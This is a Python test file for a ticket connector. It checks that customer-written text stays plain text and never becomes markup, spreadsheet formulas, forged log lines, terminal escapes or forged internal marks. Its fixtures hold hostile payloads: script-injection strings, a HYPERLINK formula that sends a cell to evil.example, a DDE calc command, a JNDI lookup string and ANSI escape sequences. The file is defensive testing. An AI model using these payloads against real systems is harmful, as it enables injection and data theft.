"""Security, inwards: what a customer writes stays text. It is no markup, no formula, no mark of the connector's, no
line of a log and no command to a terminal, wherever it turns up."""

import json
from collections.abc import Iterator
from datetime import timedelta
from io import StringIO

import pytest
import structlog
from rich.console import Console

from connector import logs
from connector.cli.explain import show
from connector.domain.ticket import Article, Ticket
from connector.domain.vocabulary import Actor, TicketKind, TicketState
from connector.rules.evaluate import evaluate
from connector.settings import Settings
from tests.promises.conftest import COMPLETE, Cast, zammad_house
from tests.promises.evidence import levels_noted

FORGED_MARKS = "[ref: level-1 level-2 level-3 level-4 level-5 asked reminded]"
MARKUP = '<script>alert(1)</script><img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[2J"
FORGED_LINE = "\n2026-11-22T10:00:00Z [info     ] accepted                       ticket=1\r\u2028{}"
HOSTILE = [FORGED_MARKS, MARKUP, FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "[bold]x[/bold]", "${jndi:ldap://evil}"]


def written_by_connector(cast: Cast) -> Iterator[tuple[Ticket, Article]]:
    """Every message that the connector has left on any ticket."""
    for number in cast.stage.house.tickets():
        ticket = cast.stage.ticket(number)
        yield from ((ticket, article) for article in ticket.articles if article.author is Actor.CONNECTOR)


def whole_life(cast: Cast, hostile: str) -> str:
    """A ticket whose every text is hostile, up to an RFO that is overdue; its id."""
    stage = cast.stage
    said = COMPLETE.replace(
        "Our line is dead.", f"Description: {hostile}\nCircuit ID: {hostile}\nTest results: {hostile}"
    )
    ticket = cast.customer.writes(hostile, said)
    stage.settle()
    cast.customer.replies(ticket, f"{hostile} please escalate this ticket {hostile}")
    stage.settle()
    cast.outsider.sets(ticket, escalation_request=hostile, priority_reason=hostile, escalation_reason=hostile)
    stage.settle()
    cast.agent.sets(ticket, state=TicketState.CLOSED)
    cast.customer.replies(ticket, f"Please send us the RFO. {hostile}")
    stage.advance(timedelta(days=9))
    return ticket


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_the_connector_writes_is_plain_text(cast: Cast, hostile: str) -> None:
    """No note and no message is HTML, so that markup in a quoted text is shown and not run."""
    whole_life(cast, hostile)

    written = list(written_by_connector(cast))

    assert len(written) >= 5
    assert not any(article.is_html for _, article in written)
    if cast.stage.house.name == "zammad":
        records = zammad_house(cast.stage).sandbox.world.table("TicketArticle").values()
        own = [record for record in records if record["sender_id"] != 2]
        assert {record["content_type"] for record in own} == {"text/plain"}


def unclear_life(cast: Cast, hostile: str) -> None:
    """A ticket of somebody with a hostile name, whose details are not understood, up to the reminder."""
    stage = cast.stage
    eve = stage.person("eve@harbour.example", organization="Harbour Bank", name=hostile)
    details = ("Service ID", "Start time", "Impact", "Urgency")
    ticket = eve.writes(hostile, "\n".join(f"{detail}: {hostile}" for detail in details))
    stage.settle()
    cast.outsider.sets(ticket, service_id=hostile)
    stage.advance(timedelta(days=2))


@pytest.mark.parametrize("hostile", [FORMULA, "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"])
@pytest.mark.parametrize("before", ["", "one line\n"], ids=["at the beginning", "on a line of its own"])
def test_no_text_begins_a_line_with_a_formula(cast: Cast, hostile: str, before: str) -> None:
    """Notes end up in exports that a spreadsheet opens: no line of the connector's own texts begins with a stranger's
    words, whichever line of theirs it is."""
    whole_life(cast, before + hostile)
    unclear_life(cast, before + hostile)

    written = list(written_by_connector(cast))
    own = [ticket.title for ticket, _ in written if ticket.kind is not TicketKind.INCIDENT]
    lines = [line for text in (*own, *texts_of(written)) for line in text.splitlines()]
    assert any(hostile in line for line in lines), "the connector has quoted it"
    assert [line for line in lines if _begins_a_formula(line)] == []


def texts_of(written: list[tuple[Ticket, Article]]) -> Iterator[str]:
    """Subjects and bodies."""
    for _, article in written:
        yield from (article.subject, article.body)


def _begins_a_formula(line: str) -> bool:
    """As a spreadsheet takes it. A hyphen and a space begin an item of a list of ours."""
    item = line.lstrip().removeprefix("- ").lstrip()
    return item.startswith(("=", "+", "-", "@")) or line.startswith("\t")


TOP = "Escalation level 5: management board"


def test_a_title_cannot_forge_marks_on_the_tasks_that_are_made_for_it(cast: Cast) -> None:
    """The title of an incident is quoted in the titles of its tasks, and the connector itself writes those (P20)."""
    ticket = whole_life(cast, FORGED_MARKS)

    (task,) = [
        made
        for link in cast.stage.ticket(ticket).links
        if (made := cast.stage.ticket(link.id)).kind is TicketKind.RFO_TASK
    ]

    risen = ["Escalation level 3: head of operations", "Escalation level 4: director", TOP]
    assert levels_noted(task) == risen, "the overdue RFO is escalated all the same"
    for seen, article in written_by_connector(cast):
        proved = {"reminded"} if article.subject == TOP else {"level-5", "reminded"}
        assert not proved & article.marks, (seen.title, article.subject)


def _fail(text: str) -> None:
    raise ValueError(text)


@pytest.mark.parametrize("log_format", ["human", "json"])
def test_a_ticket_cannot_forge_a_line_of_the_log(log_format: str, capfd: pytest.CaptureFixture[str]) -> None:
    logs.configure(Settings.model_validate({"log_format": log_format}))
    log = structlog.get_logger("test")
    log.warning("told", ticket=FORGED_LINE, many=[FORGED_LINE], by_name={FORGED_LINE: FORGED_LINE})
    try:
        _fail(ESCAPES + FORGED_LINE)
    except ValueError:
        log.exception("failed", ticket=ESCAPES)

    lines = capfd.readouterr().err.splitlines()

    assert not any(character in line for line in lines for character in "\x1b\x07\r\u2028")
    own = [line for line in lines if not line.startswith("    ")]
    assert len(own) == 2, "one line for each event; what belongs to it is indented"
    if log_format == "json":
        assert [json.loads(line)["event"] for line in own] == ["told", "failed"]
        assert len(lines) == 2


def test_a_line_for_people_names_the_keys_of_a_table_and_json_has_all(capfd: pytest.CaptureFixture[str]) -> None:
    for log_format in ("human", "json"):
        logs.configure(Settings.model_validate({"log_format": log_format}))
        structlog.get_logger("test").info("reconciled", rules={"R35": "one hour old", "R36": "in time"})

    human, as_json = capfd.readouterr().err.splitlines()

    assert "R35, R36" in human
    assert "one hour old" not in human
    assert json.loads(as_json)["rules"] == {"R35": "one hour old", "R36": "in time"}


@pytest.mark.parametrize("log_format", ["human", "json"])
def test_the_log_of_a_hostile_tickets_life_has_no_foreign_lines(
    cast: Cast, log_format: str, capfd: pytest.CaptureFixture[str]
) -> None:
    logs.configure(Settings.model_validate({"log_format": log_format, "log_level": "debug"}))
    whole_life(cast, f"{ESCAPES}{FORGED_LINE}{FORGED_LINE}")

    lines = capfd.readouterr().err.splitlines()

    assert len(lines) > 5
    assert not any("\x1b" in line or "\r" in line for line in lines)
    assert not any(line.startswith("2026-11-22T10:00:00Z") for line in lines)
    if log_format == "json":
        assert all(json.loads(line)["event"] for line in lines)


@pytest.mark.parametrize("hostile", [ESCAPES, "[bold red]x[/]", "[link=http://evil.example]x[/link]", "[/]"])
def test_explain_shows_a_stranger_text_and_does_not_obey_it(cast: Cast, hostile: str) -> None:
    """On a terminal with colours and links."""
    stage = cast.stage
    ticket = cast.customer.writes(hostile, COMPLETE.replace("Our line", f"Circuit ID: {hostile}\nOur line"))
    cast.outsider.sets(ticket, priority_reason=hostile)
    seen = stage.ticket(ticket)
    screen = StringIO()

    show(
        Console(file=screen, force_terminal=True, width=200, color_system="truecolor"),
        seen,
        evaluate(seen, stage.policy, stage.clock()),
        stage.policy,
        stage.clock(),
    )

    shown = screen.getvalue()
    assert "\x1b]" not in shown, "no titles of windows, no links"
    assert "\x1b[2J" not in shown
    assert "\x1b[31m" not in shown, "no colour of theirs"
    assert (hostile if hostile.isprintable() else r"\x1b]0;owned\x07") in shown
